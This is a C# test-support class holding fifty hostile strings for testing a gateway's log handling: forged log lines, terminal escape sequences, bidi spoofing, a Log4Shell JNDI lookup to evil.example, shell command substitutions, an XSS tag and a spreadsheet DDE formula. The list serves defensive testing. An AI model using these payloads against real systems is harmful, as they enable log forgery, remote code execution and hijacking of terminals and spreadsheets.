namespace Gateway.Tests.Support;

/// <summary>Fifty texts that have forged, hidden or broken log lines somewhere, or steer the terminal of whoever reads them.</summary>
internal static class HostileTexts
{
    public static IReadOnlyList<string> All { get; } =
    [
        "a\nb", "a\rb", "a\r\nb", "\n", "\n\n\n", "a\u0085b", "a\u2028b", "a\u2029b", "a\vb", "a\fb",
        "x\n2026-01-01T00:00:00.000Z info request route=admin", "x\"}\n{\"level\":\"info\",\"jwt.sub\":\"root\"}", "x\" jwt.sub=\"root", "x jwt.sub=root http.status=200", "x=y",
        "\"", "\\", "\\\"", "\\n", "\\u000a", "'", "`", "{}", "{\"a\":1}", "[1,2]",
        "\u001b[2J\u001b[H", "\u001b[31mred\u001b[0m", "\u001b]0;title\u0007", "\u001b]8;;http://evil.example\u0007link\u001b]8;;\u0007", "\u009b31m",
        "a\0b", "\0", "\b\b\b\b", "\u007f\u007f", "\u0001\u0002\u0003", "\u202egnp.exe", "\u2066a\u2069", "\u200f\u200e", "a\u200bb\ufeff", "e\u0301\u0301\u0301\u0301",
        "%s%n%x", "${jndi:ldap://evil.example/a}", "{Rule} {0}", "$(id)", "`id`", "<script>alert(1)</script>", "=cmd|' /C calc'!A0", "\ud83d\ude00\ud83d\ude00",
        new string('A', 1 << 20), string.Concat(Enumerable.Repeat("\u001b[1m\n", 1 << 12)),
    ];
}
